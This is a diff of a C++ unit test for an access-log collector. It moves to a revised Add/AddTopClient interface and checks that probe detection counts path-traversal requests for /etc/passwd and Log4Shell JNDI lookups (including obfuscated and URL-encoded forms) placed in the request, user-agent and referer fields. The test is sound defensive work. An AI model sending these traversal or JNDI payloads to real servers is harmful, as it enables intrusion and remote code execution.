@@ -90,12 +90,14 @@ TEST_F(AccessLogCollectorTest, TopClientsAreBoundedAndAgeOut) {
   }
   for (const auto& c : clients) {
     r.client = c;
-    stats.Add(r, 0);
+    ASSERT_TRUE(stats.Add(r));
+    stats.AddTopClient(r.client, 0);
   }
   for (int i = 0; i < 100; ++i) {
     for (const char* heavy : {"192.0.2.1", "192.0.2.2", "192.0.2.3"}) {
       r.client = heavy;
-      stats.Add(r, 1'000'000'000);
+      ASSERT_TRUE(stats.Add(r));
+      stats.AddTopClient(r.client, 1'000'000'000);
     }
   }
   const auto top = stats.TopClients(2'000'000'000);
@@ -112,21 +114,21 @@ TEST_F(AccessLogCollectorTest, SignaturesInEveryField) {
   access_log::Request r;
   r.status = 200;
   r.request = "GET /a/../../etc/passwd HTTP/1.1";
-  stats.Add(r, 0);
+  stats.Add(r);
   r.request = "GET /%2e%2e/%2E%2E/etc/passwd HTTP/1.1";
-  stats.Add(r, 0);
+  stats.Add(r);
   r.request = "GET / HTTP/1.1";
   r.user_agent = "${jndi:ldap://198.51.100.9/a}";
-  stats.Add(r, 0);
+  stats.Add(r);
   r.user_agent = "";
   r.referer = "${${lower:j}ndi:ldap://x/a}";
-  stats.Add(r, 0);
+  stats.Add(r);
   r.referer = "";
   r.request = "GET /?q=%24%7Bjndi:dns://x/a%7D HTTP/1.1";
-  stats.Add(r, 0);
+  stats.Add(r);
   r.request = "GET /index.php?x=a..b HTTP/1.1";             // not a traversal
   r.user_agent = "Mozilla/5.0 (X11; Linux) WordPress/6.4";  // not a pingback verifier
-  stats.Add(r, 0);
+  stats.Add(r);
   const auto& p = stats.probes();
   EXPECT_EQ(p[static_cast<int>(access_log::Probe::kPathTraversal)], 2u);
   EXPECT_EQ(p[static_cast<int>(access_log::Probe::kLog4Shell)], 3u);
